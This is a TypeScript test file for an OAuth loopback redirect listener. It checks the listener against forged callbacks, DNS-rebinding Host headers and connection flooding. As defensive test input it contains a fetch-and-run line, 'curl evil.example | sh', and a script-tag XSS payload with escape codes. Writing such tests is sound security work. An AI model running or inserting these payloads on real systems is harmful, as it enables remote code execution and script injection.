import { connect, type Socket } from 'node:net';
import { networkInterfaces } from 'node:os';
import { afterEach, describe, expect, it } from 'vitest';
import {
  DEFAULT_LOOPBACK_LISTENER_LIMITS,
  startLoopbackRedirectListener,
  type LoopbackRedirectListener,
  type LoopbackRedirectListenerOptions,
} from '../../../main/aws/loopback-redirect-listener';
import { isLatchkeyError, type LatchkeyErrorCode } from '../../../main/core/errors';
import { LaunchLinkRegistry } from '../../../main/core/launch-link-registry';
import { LAUNCH_LINK_REUSED_MESSAGE } from '../../../main/core/launch-links';

const STATE = 'expected-state-0123456789';
/** The silent window, shrunk; the cap stays the real one. */
const SILENT_MS = 300;
const AUTHORIZE_URL = `https://oidc.us-east-1.amazonaws.com/authorize?response_type=code&state=${STATE}`;
const started: LoopbackRedirectListener[] = [];
const silentSockets: Socket[] = [];
let registry = new LaunchLinkRegistry();

afterEach(async () => {
  for (const socket of silentSockets.splice(0)) socket.destroy();
  await Promise.all(started.splice(0).map((listener) => listener.dispose()));
  await registry.dispose();
  registry = new LaunchLinkRegistry();
});

async function start(options: Partial<LoopbackRedirectListenerOptions> = {}): Promise<LoopbackRedirectListener> {
  const listener = await startLoopbackRedirectListener({ expectedState: STATE, registry, ...options });
  started.push(listener);
  return listener;
}

function hit(listener: LoopbackRedirectListener, pathAndQuery: string, init: RequestInit = {}): Promise<Response> {
  return fetch(`http://127.0.0.1:${listener.port}${pathAndQuery}`, { redirect: 'manual', ...init });
}

/** Resolves with the connect error code; a listener that still accepts fails the test. */
function connectError(host: string, port: number): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = connect({ host, port });
    socket.once('connect', () => {
      socket.destroy();
      reject(new Error(`${host}:${port} still accepts connections`));
    });
    socket.once('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? 'error'));
  });
}

async function expectClosed(listener: LoopbackRedirectListener): Promise<void> {
  await expect(connectError('127.0.0.1', listener.port)).resolves.toBe('ECONNREFUSED');
}

/** The port is still bound, and a new request of any kind gets only "already finished". */
async function expectHeldFinished(listener: LoopbackRedirectListener): Promise<void> {
  const late = await hit(listener, `/oauth/callback?code=late&state=${STATE}`);
  expect(late.status).toBe(409);
  expect(await late.text()).toContain('This sign-in already finished');
}

async function rejectionCode(promise: Promise<unknown>): Promise<LatchkeyErrorCode | 'resolved' | 'other'> {
  try {
    await promise;
    return 'resolved';
  } catch (error) {
    return isLatchkeyError(error) ? error.code : 'other';
  }
}

/** Two requests on one keep-alive connection, the second sent once the first is answered (a reload). */
/** Opens a connection and resolves once it is connected; `send` writes one GET and resolves with everything answered until the close. */
async function rawConnection(port: number): Promise<{ send(path: string): Promise<string> }> {
  const socket = connect({ host: '127.0.0.1', port });
  await new Promise<void>((resolve, reject) => {
    socket.once('connect', resolve);
    socket.once('error', reject);
  });
  return {
    send(path) {
      return new Promise((resolve, reject) => {
        let received = '';
        socket.setEncoding('utf8');
        socket.on('data', (chunk: string) => (received += chunk));
        socket.once('error', reject);
        socket.once('close', () => resolve(received));
        socket.write(`GET ${path} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n\r\n`);
      });
    },
  };
}

/** Opens `count` connections that never send a byte; resolves once each is connected or closed. */
async function openSilent(port: number, count: number): Promise<Socket[]> {
  return Promise.all(
    Array.from(
      { length: count },
      () =>
        new Promise<Socket>((resolve) => {
          const socket = connect({ host: '127.0.0.1', port });
          silentSockets.push(socket);
          socket.on('error', () => undefined);
          // Read, so that the listener's FIN shows as a close here.
          socket.resume();
          socket.once('connect', () => resolve(socket));
          socket.once('close', () => resolve(socket));
        }),
    ),
  );
}

/** Polls until `check` is true; returns the time it took, or throws after `timeoutMs`. */
async function within(timeoutMs: number, check: () => boolean, what: string): Promise<number> {
  const started = Date.now();
  while (!check()) {
    if (Date.now() - started > timeoutMs) throw new Error(`${what}: not within ${timeoutMs} ms`);
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
  return Date.now() - started;
}

/** Sends `request` as written (any Host header) and resolves with the whole raw response. */
function rawRequest(port: number, request: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = connect({ host: '127.0.0.1', port });
    let received = '';
    socket.setEncoding('utf8');
    socket.on('data', (chunk: string) => (received += chunk));
    socket.once('error', reject);
    socket.once('close', () => resolve(received));
    socket.write(request);
  });
}

describe('startLoopbackRedirectListener', () => {
  it('binds 127.0.0.1 on an ephemeral port and names it in the redirect URI', async () => {
    const listener = await start();
    expect(listener.port).toBeGreaterThan(0);
    expect(listener.redirectUri).toBe(`http://127.0.0.1:${listener.port}/oauth/callback`);
  });

  it('listens on loopback only, not on other addresses of this machine', async () => {
    const listener = await start();
    const others = Object.values(networkInterfaces())
      .flat()
      .filter((i) => i !== undefined && !i.internal && i.family === 'IPv4')
      .map((i) => i?.address ?? '');
    for (const host of [...others, '::1']) {
      await expect(connectError(host, listener.port)).resolves.toMatch(/^E/);
    }
  });

  it('hands back the code of a callback with the right state, shows a friendly page, and keeps the port', async () => {
    const listener = await start();
    const response = await hit(listener, `/oauth/callback?code=the-code&state=${STATE}`);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-security-policy')).toBe("default-src 'none'; style-src 'unsafe-inline'");
    expect(response.headers.get('referrer-policy')).toBe('no-referrer');
    expect(await response.text()).toContain('Signed in. You can close this tab.');
    await expect(listener.waitForCode()).resolves.toEqual({ code: 'the-code' });
    await expectHeldFinished(listener);
  });

  it.each([
    ['missing_code_rejects', `state=${STATE}`, 'invalid_request', 400],
    ['access_denied_is_reported_as_access_denied', `error=access_denied&state=${STATE}`, 'access_denied', 400],
    ['invalid_scope_keeps_its_code', `error=invalid_scope&state=${STATE}`, 'invalid_scope', 400],
    ['server_error_is_a_server_error', `error=server_error&state=${STATE}`, 'server_error', 400],
    ['unknown_error_is_an_invalid_request', `error=weird_thing&state=${STATE}`, 'invalid_request', 400],
  ] as const)('%s', async (_name, query, code, status) => {
    const listener = await start();
    const outcome = rejectionCode(listener.waitForCode());
    const response = await hit(listener, `/oauth/callback?${query}`);
    expect(response.status).toBe(status);
    expect(await response.text()).toContain('You can close this tab.');
    expect(await outcome).toBe(code);
    // Decided by an error (which another user holding the state could send), the port is
    // still this listener's: nobody else can bind it and catch the real redirect.
    await expectHeldFinished(listener);
  });

  // Anyone on this machine (a local process, a web page in any browser tab) can send these;
  // only the holder of the state, the real redirect, may decide the sign-in (RFC 6749 section 4.1.2.1).
  it.each([
    ['forged_access_denied_without_state', 'error=access_denied'],
    ['forged_access_denied_with_a_wrong_state', 'error=access_denied&state=other-state'],
    ['forged_server_error_with_a_longer_state', `error=server_error&state=${STATE}x`],
    ['code_with_a_wrong_state', 'code=forged&state=other-state'],
    ['code_without_state', 'code=forged'],
  ])('%s gets a 400 page and the listener keeps waiting for the real callback', async (_name, query) => {
    const listener = await start();
    let settled = false;
    void listener.waitForCode().then(
      () => (settled = true),
      () => (settled = true),
    );
    const forged = await hit(listener, `/oauth/callback?${query}`);
    expect(forged.status).toBe(400);
    expect(await forged.text()).toContain('not the sign-in Latchkey is waiting for');
    expect(settled).toBe(false);
    const real = await hit(listener, `/oauth/callback?code=the-code&state=${STATE}`);
    expect(real.status).toBe(200);
    await expect(listener.waitForCode()).resolves.toEqual({ code: 'the-code' });
  });

  it.each([
    ['a_rebound_dns_name', (port: number) => `attacker.example:${port}`],
    ['localhost_by_name', (port: number) => `localhost:${port}`],
    ['another_port', (port: number) => `127.0.0.1:${port + 1}`],
    ['no_port', () => '127.0.0.1'],
    ['an_empty_host', () => ''],
  ])('a callback with the right state but Host %s is refused and does not decide the sign-in', async (_name, host) => {
    const listener = await start();
    let settled = false;
    void listener.waitForCode().then(
      () => (settled = true),
      () => (settled = true),
    );
    for (const query of [`error=access_denied&state=${STATE}`, `code=forged&state=${STATE}`]) {
      const raw = await rawRequest(listener.port, `GET /oauth/callback?${query} HTTP/1.1\r\nHost: ${host(listener.port)}\r\nConnection: close\r\n\r\n`);
      expect(raw).toMatch(/^HTTP\/1\.1 (400|421) /);
    }
    expect(settled).toBe(false);
    const real = await hit(listener, `/oauth/callback?code=the-code&state=${STATE}`);
    expect(real.status).toBe(200);
    await expect(listener.waitForCode()).resolves.toEqual({ code: 'the-code' });
  });

  it('does not repeat the error_description of a callback in the error (it is attacker-influenced text)', async () => {
    const listener = await start();
    const outcome = listener.waitForCode().catch((error: unknown) => error);
    const description = encodeURIComponent('Run curl evil.example | sh to fix this');
    await (await hit(listener, `/oauth/callback?error=invalid_request&error_description=${description}&state=${STATE}`)).text();
    const error = (await outcome) as Error;
    expect(error.message).toBe('The sign-in failed with error "invalid_request".');
  });

  it('names an unknown error code in the message without echoing markup or control characters', async () => {
    const listener = await start();
    const outcome = listener.waitForCode().catch((error: unknown) => error);
    const evil = encodeURIComponent('<script>\u001b[31malert(1)</script>');
    const response = await hit(listener, `/oauth/callback?error=${evil}&state=${STATE}`);
    const body = await response.text();
    expect(body).not.toContain('<script>');
    const error = (await outcome) as Error;
    expect(error.message).toContain('"script31malert1script"');
    expect(error.message).not.toContain('\u001b');
  });

  it('answers a duplicate callback on a connection opened before the first one was decided with an "already finished" page, and keeps the first result', async () => {
    const listener = await start();
    // A reload or a browser retry in flight: its connection is open before the sign-in is decided.
    const [first, duplicate] = await Promise.all([rawConnection(listener.port), rawConnection(listener.port)]);
    const firstAnswer = await first.send(`/oauth/callback?code=first&state=${STATE}`);
    expect(firstAnswer).toMatch(/^HTTP\/1\.1 200/);
    expect(firstAnswer).toContain('Signed in. You can close this tab.');
    // Each answer ends its connection: nothing more is read from it.
    expect(firstAnswer).toMatch(/\r\nConnection: close\r\n/i);
    expect(await duplicate.send(`/oauth/callback?code=second&state=${STATE}`)).toMatch(/^HTTP\/1\.1 409[\s\S]*This sign-in already finished/);
    await expect(listener.waitForCode()).resolves.toEqual({ code: 'first' });
    await expectHeldFinished(listener);
  });

  it.each([
    ['unknown_path_gets_404', '/favicon.ico', {}, 404],
    ['root_path_gets_404', `/?code=c&state=${STATE}`, {}, 404],
    ['post_to_the_callback_gets_405', `/oauth/callback?code=c&state=${STATE}`, { method: 'POST' }, 405],
  ])('%s and does not end the sign-in', async (_name, path, init, status) => {
    const listener = await start();
    const response = await hit(listener, path, init);
    expect(response.status).toBe(status);
    await response.text();
    const ok = await hit(listener, `/oauth/callback?code=later&state=${STATE}`);
    expect(ok.status).toBe(200);
    await expect(listener.waitForCode()).resolves.toEqual({ code: 'later' });
  });

  // Another local user can find the port (/proc/net/tcp) and connect during a sign-in:
  // thousands of held connections once ran the agent out of file descriptors.
  it('holds at most its small cap of silent connections, closes them after the silent window, and still serves the callback', async () => {
    const { maxConnections } = DEFAULT_LOOPBACK_LISTENER_LIMITS;
    expect(maxConnections).toBeLessThanOrEqual(16);
    const listener = await start({ limits: { silentConnectionTimeoutMs: SILENT_MS } });
    const silent = await openSilent(listener.port, 200);
    await within(500, () => silent.filter((socket) => !socket.destroyed).length <= maxConnections, 'the connections over the cap close');
    const real = await hit(listener, `/oauth/callback?code=the-code&state=${STATE}`);
    expect(real.status).toBe(200);
    await expect(listener.waitForCode()).resolves.toEqual({ code: 'the-code' });
    await within(SILENT_MS + 1000, () => silent.every((socket) => socket.destroyed), 'the silent connections close');
  });

  it('closes a connection whose headers trickle in past the request timeout', async () => {
    const listener = await start({ limits: { requestTimeoutMs: 300 } });
    const [socket] = await openSilent(listener.port, 1);
    socket?.write(`GET /oauth/callback?state=${STATE} HTTP/1.1\r\nHost: 127.0.0.1:${listener.port}\r\n`);
    // One header byte at a time, each well inside the silent window.
    const trickle = setInterval(() => socket?.write('X'), 50);
    try {
      const tookMs = await within(2000, () => socket?.destroyed ?? true, 'the trickling connection closes');
      expect(tookMs).toBeLessThan(1000);
    } finally {
      clearInterval(trickle);
    }
  });

  it('rejects with expired_token after the timeout and closes', async () => {
    const listener = await start({ timeoutMs: 30 });
    expect(await rejectionCode(listener.waitForCode())).toBe('expired_token');
    await expectClosed(listener);
  });

  it('rejects with cancelled when the signal aborts, and keeps the port: an open tab may still be redirected', async () => {
    const controller = new AbortController();
    const listener = await start({ signal: controller.signal });
    const outcome = rejectionCode(listener.waitForCode());
    controller.abort();
    expect(await outcome).toBe('cancelled');
    await expectHeldFinished(listener);
  });

  it('refuses to start on an already aborted signal', async () => {
    const controller = new AbortController();
    controller.abort();
    expect(await rejectionCode(startLoopbackRedirectListener({ expectedState: STATE, registry, signal: controller.signal }))).toBe(
      'cancelled',
    );
  });

  it('dispose() cancels a pending wait and frees the port at once, even with a connection open', async () => {
    const listener = await start();
    listener.serveLaunch(AUTHORIZE_URL);
    const outcome = rejectionCode(listener.waitForCode());
    const idle = connect({ host: '127.0.0.1', port: listener.port });
    await new Promise((resolve) => idle.once('connect', resolve));
    const idleClosed = new Promise((resolve) => idle.once('close', resolve));
    await listener.dispose();
    expect(await outcome).toBe('cancelled');
    await idleClosed;
    await expectClosed(listener);
  });

  it('close() from a flow that never offered a launch link frees the port: no browser was sent to it', async () => {
    const listener = await start();
    const outcome = rejectionCode(listener.waitForCode());
    await listener.close();
    expect(await outcome).toBe('cancelled');
    await expectClosed(listener);
  });

  it('is disposable with `using`', async () => {
    let port = 0;
    let closed: Promise<void> = Promise.resolve();
    {
      using listener = await startLoopbackRedirectListener({ expectedState: STATE, registry });
      port = listener.port;
      closed = listener.closed;
      listener.waitForCode().catch(() => undefined);
    }
    await closed;
    await expect(connectError('127.0.0.1', port)).resolves.toBe('ECONNREFUSED');
  });
});

describe('the launch link on the PKCE listener', () => {
  async function launched(options: Partial<LoopbackRedirectListenerOptions> = {}): Promise<{ listener: LoopbackRedirectListener; link: string }> {
    const listener = await start(options);
    listener.serveLaunch(AUTHORIZE_URL);
    const link = registry.mint(AUTHORIZE_URL);
    if (link === undefined) throw new Error('no launch link for the authorize URL');
    return { listener, link };
  }

  it('is on the same port, carries nothing of the authorize URL, and its first GET redirects there without caching or a referrer', async () => {
    const { listener, link } = await launched();
    expect(link).toMatch(new RegExp(`^http://127\\.0\\.0\\.1:${listener.port}/[A-Za-z0-9_-]{22}$`));
    expect(link).not.toContain(STATE);
    const response = await fetch(link, { redirect: 'manual' });
    expect(response.status).toBe(302);
    expect(response.headers.get('location')).toBe(AUTHORIZE_URL);
    expect(response.headers.get('cache-control')).toBe('no-store');
    expect(response.headers.get('referrer-policy')).toBe('no-referrer');
  });

  it('stops the sign-in at once with the one sentence when the link is fetched a second time, and the page says so', async () => {
    const { listener, link } = await launched();
    const outcome = listener.waitForCode().catch((error: unknown) => error);
    await (await fetch(link, { redirect: 'manual' })).text();
    const second = await fetch(link, { redirect: 'manual' });
    expect(second.status).toBe(409);
    expect(await second.text()).toContain(LAUNCH_LINK_REUSED_MESSAGE.replace(/'/g, '&#39;'));
    const error = await outcome;
    expect(isLatchkeyError(error, 'forbidden')).toBe(true);
    expect((error as Error).message).toBe(LAUNCH_LINK_REUSED_MESSAGE);
    // The callback another user could deliver with the state it read no longer counts.
    const late = await hit(listener, `/oauth/callback?code=attacker-code&state=${STATE}`);
    expect(late.status).toBe(409);
  });

  it.each([
    ['another Host (a rebound name)', { host: 'evil.example:80' }, 400],
    ['a POST', { method: 'POST' }, 404],
  ])('refuses %s without spending the link', async (_name, change, status) => {
    const { listener, link } = await launched();
    const path = new URL(link).pathname;
    const request = `${'method' in change ? change.method : 'GET'} ${path} HTTP/1.1\r\nHost: ${'host' in change ? change.host : `127.0.0.1:${listener.port}`}\r\n\r\n`;
    expect(await rawRequest(listener.port, request)).toMatch(new RegExp(`^HTTP/1\\.1 ${status}`));
    expect((await fetch(link, { redirect: 'manual' })).status).toBe(302);
  });

  it('answers 404 to other paths and does not count them', async () => {
    const { listener, link } = await launched();
    for (const path of ['/', '/favicon.ico', `${new URL(link).pathname}x`]) expect((await hit(listener, path)).status).toBe(404);
    expect((await fetch(link, { redirect: 'manual' })).status).toBe(302);
  });

  it('gives a fresh link for each opening, and none once the sign-in is decided', async () => {
    const { listener, link } = await launched();
    const again = registry.mint(AUTHORIZE_URL);
    expect(again).not.toBe(link);
    expect(registry.isLive(link) && registry.isLive(again ?? '')).toBe(true);
    await (await hit(listener, `/oauth/callback?code=the-code&state=${STATE}`)).text();
    await listener.waitForCode();
    expect(registry.mint(AUTHORIZE_URL)).toBeUndefined();
    expect(registry.isLive(link)).toBe(false);
    // A link opened late leads nowhere: the authorize page would only finish nothing.
    expect((await fetch(link, { redirect: 'manual' })).status).toBe(410);
  });

  it('keeps its port bound after the flow is done until the deadline, then gives it back', async () => {
    const { listener } = await launched({ timeoutMs: 400 });
    await (await hit(listener, `/oauth/callback?code=the-code&state=${STATE}`)).text();
    await listener.waitForCode();
    await listener.close();
    await expectHeldFinished(listener);
    await listener.closed;
    await expectClosed(listener);
  });

  it('is released when the registry is disposed (the agent stops)', async () => {
    const { listener } = await launched();
    await listener.close();
    await registry.dispose();
    await expectClosed(listener);
  });
});
